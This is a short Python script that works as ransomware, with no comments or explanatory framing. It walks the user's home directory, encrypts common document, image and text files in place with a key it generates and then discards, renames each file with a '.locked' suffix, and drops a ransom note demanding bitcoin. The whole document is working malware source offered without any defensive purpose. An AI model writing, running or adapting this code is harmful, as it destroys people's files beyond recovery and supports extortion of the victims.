import os
from cryptography.fernet import Fernet

key = Fernet.generate_key()
box = Fernet(key)
EXTENSIONS = (".doc", ".docx", ".jpg", ".pdf", ".xls", ".txt")
for root, dirs, files in os.walk(os.path.expanduser("~")):
    for name in files:
        if not name.endswith(EXTENSIONS):
            continue
        path = os.path.join(root, name)
        with open(path, "rb") as handle:
            data = handle.read()
        with open(path, "wb") as handle:
            handle.write(box.encrypt(data))
        os.rename(path, path + ".locked")
with open(os.path.join(os.path.expanduser("~"), "README_DECRYPT.txt"), "w") as note:
    note.write("All your files have been encrypted. Send 0.1 bitcoin to recover your data: pay@example.com")
